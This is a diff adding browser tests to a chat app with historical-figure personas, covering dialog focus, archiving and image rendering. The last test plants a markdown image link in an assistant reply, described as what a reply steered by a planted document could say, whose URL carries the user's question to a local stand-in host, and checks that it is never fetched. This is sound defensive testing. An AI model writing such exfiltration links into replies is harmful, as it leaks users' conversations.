@@ -7,6 +7,7 @@ import itertools
 import os
 import re
 import signal
+import sqlite3
 import time
 import uuid
 from pathlib import Path
@@ -310,3 +311,83 @@ def test_a_conversation_linked_under_another_figure_opens_under_its_own(
     page.goto(f"{app_url}/chat/marie-curie?session={session}")
     expect(page).to_have_url(re.compile(rf"/chat/socrates/?\?session={session}$"))
     expect(page.get_by_test_id("user-message")).to_have_text("Who was your teacher?")
+
+
+def test_the_conversation_menu_dialogs_keep_the_keyboard_focus(app_url: str, page: Page) -> None:
+    _new_socrates_conversation(page, app_url, "keyboard", "What is courage?")
+    menu, composer = page.get_by_test_id("session-menu"), page.get_by_label("Your message")
+
+    # The dialog's own field or safe button gets the focus, not the closing menu.
+    menu.click()
+    page.get_by_test_id("session-rename").click()
+    expect(page.get_by_test_id("rename-title")).to_be_focused()
+    page.keyboard.press("Escape")
+    expect(page.get_by_test_id("rename-title")).to_have_count(0)
+    expect(composer).to_be_focused()
+
+    menu.click()
+    page.get_by_test_id("session-delete").click()
+    expect(page.get_by_role("button", name="Cancel")).to_be_focused()
+    page.keyboard.press("Escape")  # closes the confirmation, deletes nothing
+    expect(page.get_by_test_id("confirm-delete")).to_have_count(0)
+    expect(composer).to_be_focused()
+    expect(page.get_by_test_id("session-link")).to_have_count(1)
+
+    # A menu closed without a dialog gives the focus back to its button.
+    menu.click()
+    page.keyboard.press("Escape")
+    expect(menu).to_be_focused()
+
+    # The first Tab stop skips the navigation and the conversation list.
+    page.get_by_test_id("skip-link").focus()
+    page.keyboard.press("Enter")
+    expect(composer).to_be_focused()
+
+
+def test_an_archived_conversation_opened_by_its_link_says_so_and_can_be_restored(
+    app_url: str, page: Page
+) -> None:
+    _new_socrates_conversation(page, app_url, "archivist", "What is piety?")
+    address = page.url
+    page.get_by_test_id("session-menu").click()
+    page.get_by_role("menuitem", name="Archive").click()
+    expect(page.get_by_test_id("session-link")).to_have_count(0)
+    expect(page.get_by_test_id("archived-note")).to_have_count(0)
+
+    page.goto(address)
+    expect(page.get_by_test_id("user-message")).to_have_text("What is piety?")
+    expect(page.get_by_test_id("archived-note")).to_contain_text("archived")
+    page.get_by_role("button", name="Restore").click()
+    expect(page.get_by_test_id("archived-note")).to_have_count(0)
+    expect(page.get_by_test_id("session-link")).to_contain_text("What is piety?")
+    page.reload()
+    expect(page.get_by_test_id("archived-note")).to_have_count(0)
+
+
+def test_an_image_in_a_reply_is_a_link_and_never_fetched(
+    app_url: str, app_data_dir: Path, page: Page
+) -> None:
+    _new_socrates_conversation(page, app_url, "images", "Show me the agora.")
+    session = uuid.UUID(page.url.split("session=")[1])
+    # What a reply steered by a planted document could say.
+    leak = "http://127.0.0.1:9/pixel.png?said=the+user+asked+about+the+agora"
+    with sqlite3.connect(app_data_dir / "app.db") as database:
+        database.execute(
+            "UPDATE chat_messages SET content = ? WHERE session_id = ? AND role = 'assistant'",
+            (f"Behold: ![The agora]({leak}) and [a map](http://127.0.0.1:9/map)", session.hex),
+        )
+    requested: list[str] = []
+    page.on("request", lambda request: requested.append(request.url))
+
+    page.reload()
+    reply = page.get_by_test_id("assistant-message")
+    expect(reply).to_contain_text("Behold:")
+    expect(reply.locator("img")).to_have_count(0)
+    image = reply.get_by_test_id("reply-image-link")
+    expect(image).to_have_text("The agora")
+    expect(image).to_have_attribute("href", leak)
+    expect(image).to_have_attribute("target", "_blank")
+    expect(reply.get_by_role("link", name="a map")).to_have_attribute(
+        "href", "http://127.0.0.1:9/map"
+    )
+    assert not [url for url in requested if "127.0.0.1:9/" in url]
